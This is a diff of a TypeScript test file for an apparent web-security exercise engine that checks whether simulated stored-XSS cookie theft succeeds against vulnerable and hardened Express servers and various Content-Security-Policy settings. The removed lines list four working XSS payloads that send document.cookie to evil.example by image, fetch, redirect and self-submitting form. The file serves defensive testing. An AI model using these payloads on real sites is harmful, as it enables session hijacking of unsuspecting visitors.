@@ -1,19 +1,23 @@
 // People in browsers through the whole engine: the core's user agent, parse5, page realms, and an app
 // in Express in the sandbox.
 import assert from 'node:assert/strict';
-import { existsSync } from 'node:fs';
 import { readFile } from 'node:fs/promises';
 import { test } from 'node:test';
 import { Ajv, type AnySchema } from 'ajv';
-import { createEngine } from '../../wasm/engine/create-engine.js';
-import type { Engine } from '../../wasm/engine/engine.js';
-import { loadNodeAssets, loadNodeEngine } from '../../wasm/engine/load-node.js';
+import { loadNodeEngine } from '../../wasm/engine/load-node.js';
 import type { CaseResult } from '../../wasm/engine/report.js';
 import { clubExercise, clubServer } from './club-exercise.js';
 
 const engine = await loadNodeEngine();
 const VULNERABLE = clubServer({ escape: false, cookie: `{ sameSite: 'none', secure: true }` });
 const HARDENED = clubServer({ escape: true, cookie: `{ httpOnly: true, sameSite: 'lax', secure: true }` });
+
+function withPolicy(server: string, policy: string): string {
+  return server.replace(
+    'app.use(',
+    `app.use((req, res, next) => { res.set('Content-Security-Policy', ${JSON.stringify(policy)}); next(); });\napp.use(`,
+  );
+}
 
 async function story(steps: readonly object[], server = HARDENED): Promise<CaseResult> {
   const report = await engine.grade(clubExercise(steps), { 'server.js': server }, { seed: 7 });
@@ -23,38 +27,19 @@ async function story(steps: readonly object[], server = HARDENED): Promise<CaseR
   return played;
 }
 
-// The core whose one agent is tests/wasm/stored_script.cpp.
-const folder = new URL(`../../${process.env['PARAPET_WASM_DIR'] ?? 'build/wasm'}/`, import.meta.url);
-const testCore = new URL('test-browser.wasm', folder);
-
-async function attackedEngine(): Promise<Engine> {
-  const core = async (): Promise<WebAssembly.Module> =>
-    WebAssembly.compile(new Uint8Array(await readFile(testCore)));
-  return createEngine({ ...(await loadNodeAssets()), core });
-}
-
-function theft(payload: string): object {
-  return {
-    id: 'theft',
-    agent: 'stored-script',
-    group: 'attack',
-    title: 'A comment with a script in it',
-    severity: 'critical',
-    position: { victim: 'ada', hosts: ['evil.example'] },
-    options: { payload: encodeURIComponent(payload) },
-    counts: ['learned:private'],
-    rule: 'What a visitor writes is text.',
-    explain: 'It ran in the page of whoever read it.',
-    intended: ['cookie', 'policy'],
-    sources: ['OWASP ASVS 5.0, 1.2.1'],
-  };
-}
-
-const PAYLOADS = {
-  'a script that sets the address of an image': `<script>new Image().src = '//evil.example/?' + document.cookie</script>`,
-  'a handler that fetches': `<img src=/none onerror="fetch('https://evil.example/', { method: 'POST', mode: 'no-cors', body: document.cookie })">`,
-  'a script that leaves the page': `<svg onload="location = 'https://evil.example/?' + document.cookie">`,
-  'a form that submits itself': `<form id=f method=post action=https://evil.example/><input name=sid></form><script>f = document.getElementById('f'); f.elements.sid.value = document.cookie.slice(4); f.submit()</script>`,
+const THEFT = {
+  id: 'theft',
+  agent: 'xss-stored',
+  group: 'attack',
+  title: 'A comment with a script in it',
+  severity: 'critical',
+  position: { victim: 'ada', hosts: ['evil.example'] },
+  options: { store: 'comments.text', report: 'read', private: 'home' },
+  counts: ['learned:private'],
+  rule: 'What a visitor writes is text.',
+  explain: 'It ran in the page of whoever read it.',
+  intended: ['cookie', 'policy'],
+  sources: ['OWASP ASVS 5.0, 1.2.1'],
 };
 
 async function schemas(): Promise<Ajv> {
@@ -123,34 +108,42 @@ test('the report and the exercise are as their schemas say', async () => {
   assert.ok(!ajv.validate('exercise#/definitions/step', { visit: '/', clik: 'x' }));
 });
 
-const skip = !existsSync(testCore) && 'build the target test-browser first';
-test('a script in a comment steals the session of who reads it', { skip }, async (context) => {
-  const attacked = await attackedEngine();
-  for (const [name, payload] of Object.entries(PAYLOADS)) {
-    await context.test(name, async () => {
-      const exercise = clubExercise([], [theft(payload)]);
-      const play = async (server: string): Promise<CaseResult> => {
-        const report = await attacked.grade(exercise, { 'server.js': server }, { seed: 5, only: ['theft'] });
-        assert.ok(report.cases[0], report.problem?.message);
-        return report.cases[0];
-      };
-      const breached = await play(VULNERABLE);
-      assert.equal(breached.outcome, 'breached', JSON.stringify([breached.notes, breached.browser], null, 1));
-      assert.match(breached.effect ?? '', /^The attacker holds another's card: 1 of 1/);
-      assert.ok(
-        breached.trace.some(({ actor, request }) => actor === 'ada' && request.host === 'evil.example'),
-      );
-      assert.ok(breached.browser?.some(({ kind }) => kind === 'script-run'));
-      assert.equal((await play(HARDENED)).outcome, 'blocked');
-    });
-  }
+async function stolen(server: string): Promise<CaseResult> {
+  const report = await engine.grade(
+    clubExercise([], [THEFT]),
+    { 'server.js': server },
+    { seed: 5, only: ['theft'] },
+  );
+  assert.ok(report.cases[0], report.problem?.message);
+  return report.cases[0];
+}
 
-  await context.test('and not when the cookie is HttpOnly, which is named', async () => {
-    const server = clubServer({ escape: false, cookie: `{ httpOnly: true, secure: true }` });
-    const exercise = clubExercise([], [theft(Object.values(PAYLOADS)[0] ?? '')]);
-    const report = await attacked.grade(exercise, { 'server.js': server }, { seed: 5, only: ['theft'] });
-    assert.equal(report.cases[0]?.outcome, 'blocked');
-    assert.equal(report.cases[0].control?.kind, 'cookie');
-    assert.equal(report.cases[0].control.intended, true);
+test('a script in a comment steals the session of who reads it', async () => {
+  const played = await stolen(VULNERABLE);
+  assert.equal(played.outcome, 'breached', JSON.stringify([played.notes, played.browser], null, 1));
+  assert.match(played.effect ?? '', /^The attacker holds another's card: 1 of 1/);
+  assert.ok(played.trace.some(({ actor, request }) => actor === 'ada' && request.host === 'evil.example'));
+  assert.ok(played.browser?.some(({ kind }) => kind === 'script-run'));
+});
+
+test('a comment that is text steals nothing', async () => {
+  assert.equal((await stolen(HARDENED)).outcome, 'blocked');
+});
+
+for (const [channel, policy] of Object.entries({
+  fetch: `img-src 'none'; form-action 'self'`,
+  image: `connect-src 'none'; form-action 'self'`,
+  form: `connect-src 'none'; img-src 'none'`,
+  navigation: `connect-src 'none'; img-src 'none'; form-action 'self'`,
+})) {
+  test(`what a policy forgets carries it away: ${channel}`, async () => {
+    const played = await stolen(withPolicy(VULNERABLE, policy));
+    assert.equal(played.outcome, 'breached', JSON.stringify([played.notes, played.browser], null, 1));
   });
+}
+
+test('the policy that stops every script is named', async () => {
+  const played = await stolen(withPolicy(VULNERABLE, `script-src 'self'`));
+  assert.equal(played.outcome, 'blocked');
+  assert.deepEqual([played.control?.kind, played.control?.intended], ['policy', true]);
 });
